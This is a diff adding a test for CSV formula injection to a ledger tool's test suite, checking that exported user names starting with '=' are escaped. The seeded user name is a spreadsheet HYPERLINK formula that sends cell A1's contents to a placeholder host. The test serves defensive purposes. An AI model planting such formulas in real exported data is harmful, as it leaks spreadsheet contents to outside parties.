@@ -107,3 +107,22 @@ def test_unopenable_ledger_and_overflowing_since_are_one_line(tmp_path: Path) ->
     far = _spend(tmp_path / "ledger.db", "--since", "99999999d")
     assert far.returncode == 1 and len(far.stderr.splitlines()) == 1, far.stderr
     assert "--since '99999999d'" in far.stderr
+
+
+async def _fill_users(path: Path) -> None:
+    led = await Ledger.open(path, user='=HYPERLINK("http://x.invalid/?"&A1,"ok")')
+    try:
+        await record(led, Attempt("u1", "s1", "routed_complete", "claude-haiku-5-5", Usage(1, 1), 5, 3))
+    finally:
+        await led.close()
+
+
+def test_csv_keys_never_start_a_formula(tmp_path: Path) -> None:
+    # OFFLOAD_USER / project names come from whoever shares the ledger; a spreadsheet runs a
+    # cell starting with = + - @ as a formula. Money stays a plain (here negative) number.
+    asyncio.run(_fill_users(tmp_path / "ledger.db"))
+    out = _spend(tmp_path / "ledger.db", "--by", "user", "--csv")
+    assert out.returncode == 0, out.stderr
+    row = next(csv.DictReader(io.StringIO(out.stdout)))
+    assert row["user"] == '\'=HYPERLINK("http://x.invalid/?"&A1,"ok")'
+    assert row["saved_usd"] == "-0.000000000002"
